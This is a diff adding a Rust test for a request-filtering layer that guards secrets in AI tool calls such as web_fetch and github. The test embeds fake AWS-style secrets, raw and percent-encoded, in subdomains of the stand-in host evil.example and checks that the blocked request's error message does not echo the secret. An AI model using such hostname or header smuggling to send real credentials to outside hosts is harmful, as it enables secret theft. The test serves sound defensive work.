@@ -783,6 +783,20 @@ mod http {
             ToolRequest::new("GET", "https://evil.example/").with_header(key, "x"),
             ToolRequest::new("GET", "https://evil.example/").with_header(handle.to_string(), "x"),
         ];
+        // A key of the manager outside the policy, its host escaped: no message quotes it.
+        let aws = fake("aws-", "Aw5sQ1");
+        s.manager.get("AWS_SECRET").unwrap();
+        let escaped: String = aws.bytes().map(|b| format!("%{b:02X}")).collect();
+        for url in [
+            format!("https://{escaped}.evil.example/"),
+            format!("https:////{aws}.evil.example/"),
+        ] {
+            let err = edge
+                .prepare_request("web_fetch", ToolRequest::new("GET", url))
+                .unwrap_err();
+            let message = err.to_string().to_lowercase();
+            assert!(!message.contains(&aws[4..].to_lowercase()), "{message}");
+        }
         for (i, request) in cases.into_iter().enumerate() {
             for tool in ["web_fetch", "github"] {
                 let Err(err) = edge.prepare_request(tool, request.clone()) else {
